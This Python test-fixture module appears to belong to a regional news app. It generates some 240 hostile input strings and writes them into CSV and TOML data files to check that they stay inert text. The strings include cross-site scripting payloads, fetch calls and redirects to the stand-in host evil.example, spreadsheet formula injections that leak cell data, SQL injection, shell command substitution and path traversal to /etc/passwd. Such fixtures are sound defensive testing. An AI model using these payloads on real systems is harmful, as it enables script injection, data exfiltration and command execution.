"""Texts that would do something if anything took them for more than text, and data full of them."""

import csv
import itertools
import json
from pathlib import Path

from data_folders import copy_frozen

from regional_news.model import brief_id
from regional_news.table.schema import FILE_COLUMNS

CALLS = (
    "window.hacked=1",
    "alert(1)",
    "fetch('https://evil.example/x')",
    "top.location='https://evil.example'",
)
"""What a script would do: set something, open a dialog, ask another host, go there."""

_SCRIPTS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>go</a>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<template><script>{}</script></template>",
    "<!--><img src=x onerror={}>-->",
    "<style>*{{background:url(javascript:{})}}</style>",
    '"><img src=x onerror={}>',
    "' onmouseover='{}",
    '" onmouseover="{}',
    "`;{};`",
    "${{{}}}",
    "`${{{}}}`",
    "{{{{{}}}}}",
    "{{% raw %}}{}{{% endraw %}}",
    "#{{{}}}",
    "<%= {} %>",
    "');{};('",
    '");{};("',
    "\\\\');{};//",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "[go](javascript:{})",
    "[go](<javascript:{}>)",
    "[go][1]\n\n[1]: javascript:{}",
    "<javascript:{}>",
    '![x](x "onerror={}")',
    "]]><script>{}</script><![CDATA[",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
)

_OTHERS = (
    # Markdown, in Streamlit's dialect too
    "![x](https://evil.example/x.png)",
    "[the council](https://evil.example)",
    "# Heading",
    "**bold** _slanted_ ~~struck~~ `code`",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "1. one",
    "- item",
    "> quoted",
    "    indented",
    "---",
    "```js\nalert(1)\n```",
    ":red[red] :material/delete: :streamlit: :smile:",
    "$E=mc^2$ $$x$$ \\(x\\)",
    "a -> b <- c -- d >= e <= f ~= g",
    "[^1] and [^1]: note",
    "<https://evil.example>",
    "<a href=https://evil.example>go</a>",
    "<img src=https://evil.example/x.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>go</button></form>",
    "<object data=https://evil.example></object>",
    "<style>@import 'https://evil.example/x.css'</style>",
    # spreadsheets
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"go")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "%0A=1+1",
    # signs that are not seen, or turn what is seen
    "left \u202eright\u202c",
    "\u2066isolated\u2069",
    "zero\u200bwidth\u200djoined\ufeff",
    "Zalgo t\u0334\u0335\u0336ext",
    "null \\0 and \\x00",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "İstanbul ß ﬁ ŉ ſ",
    "A" * 5_000,
    "word " * 1_000,
    "<b>" * 500,
    "(" * 500,
    "[" * 500,
    # databases, shells, files, messages: nothing here takes them for more than text either
    "'; DROP TABLE briefs; --",
    "$(touch /tmp/hacked) `touch /tmp/hacked`",
    "../../../../etc/passwd",
    "%s%n%x {0} {name} %(x)s",
    "Subject: x\nBcc: y",
    "True",
    "NaN",
    "None",
    "1e999",
    "0x41",
)

PAYLOADS = tuple(
    dict.fromkeys(
        (*(text.format(call) for text, call in itertools.product(_SCRIPTS, CALLS)), *_OTHERS)
    )
)
"""Every hostile text, some two hundred and forty."""

COUNCILS = ("cardiff", "belfast", "exeter", "highland", "leeds", "galway-city")
"""The councils whose names are hostile."""

THEME = "iot_sensors"
"""The theme whose label and definition are hostile."""


def hostile_text(kind: int) -> str:
    """Return one line that tries several ways at once: for a name, of which there are few."""
    return " ".join(
        f"{text.format(CALLS[0])}" for text in _SCRIPTS[kind :: len(COUNCILS)] if "\n" not in text
    )


def write_hostile_data(folder: Path) -> Path:
    """Write a data folder in which every text of a brief, a council and a theme is hostile."""
    data = copy_frozen(folder)
    names = _hostile_councils(data / "councils.csv")
    _hostile_theme(data / "themes.toml")
    with (data / "regional_news.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(FILE_COLUMNS)
        for number, payload in enumerate(PAYLOADS):
            council = names[number % len(names)]
            said = " ".join(payload.split())
            rows.writerow(
                (
                    *(brief_id("Echo", "Wales", payload), payload, "2023", "Wales"),
                    *(said, payload, council, f"nowhere {said}", THEME, payload, payload),
                )
            )
    return data


def _hostile_councils(path: Path) -> list[str]:
    """Make the names, types and websites of some councils hostile; return other names of theirs."""
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    named = []
    for row in rows:
        if row["id"] in COUNCILS:
            kind = COUNCILS.index(row["id"])
            row["name"] = hostile_text(kind).replace(";", "")
            row["short_name"] = row["type"] = row["name"]
            row["aliases"] = f"Hostile Council {kind}"
            row["website"] = f"javascript:{CALLS[0]}"
            named.append(row["aliases"])
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return named


def _hostile_theme(path: Path) -> None:
    """Make the label and the definition of a theme hostile."""
    head, mark, rest = path.read_text(encoding="utf-8").partition(f'id = "{THEME}"\n')
    lines = rest.split("\n")
    for place, line in enumerate(lines[:6]):
        for key, kind in (("label", 0), ("definition", 1)):
            if line.startswith(f"{key} ="):
                lines[place] = f"{key} = {json.dumps(hostile_text(kind))}"
    path.write_text(head + mark + "\n".join(lines), encoding="utf-8")
